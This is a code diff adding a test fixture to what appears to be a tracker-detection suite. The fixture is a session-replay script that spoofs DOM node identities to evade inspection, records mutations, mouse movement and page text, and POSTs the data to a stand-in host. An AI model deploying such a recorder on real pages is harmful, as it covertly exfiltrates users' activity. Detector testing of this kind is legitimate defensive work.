@@ -234,4 +234,42 @@ export default [
     ],
     allow: ['leak', 'id-cookie', 'id-storage', 'keylog', 'supercookie'],
   },
+  {
+    id: 'rec-lying-nodes',
+    reason: 'a recorder of its own that has every node say it is a small box',
+    host: 'quince-ferry.example',
+    page: recorded('<script src="https://cdn.smallbox.example/r.js"></script>'),
+    web: {
+      'cdn.smallbox.example': {
+        '/r.js': file(() => {
+          for (const [name, value] of [
+            ['nodeName', 'DIV'],
+            ['nodeType', 1],
+          ])
+            Object.defineProperty(Node.prototype, name, { configurable: true, get: () => value });
+          let events = [];
+          const all = { subtree: true, childList: true, attributes: true, characterData: true };
+          new MutationObserver((seen) => events.push(seen.length)).observe(document, all);
+          addEventListener('mousemove', ({ clientX: x, clientY: y, timeStamp: at }) =>
+            events.push({ x, y, at }),
+          );
+          setInterval(() => {
+            const html = [...document.querySelectorAll('body *')].map((one) => ({
+              tagName: one.localName,
+              name: one.getAttribute('name'),
+              text: one.children.length ? '' : one.textContent,
+            }));
+            const body = JSON.stringify({ events, html });
+            if (events.length)
+              void fetch('https://in.smallbox.example/r', { method: 'POST', body });
+            events = [];
+          }, 700);
+        }),
+      },
+    },
+    actions: ACT('lena.quince@post.example'),
+    proof: ['in.smallbox.example/r'],
+    expect: [{ kind: 'replay', host: 'in.smallbox.example' }, asked],
+    allow: ['tracker', 'keylog'],
+  },
 ];
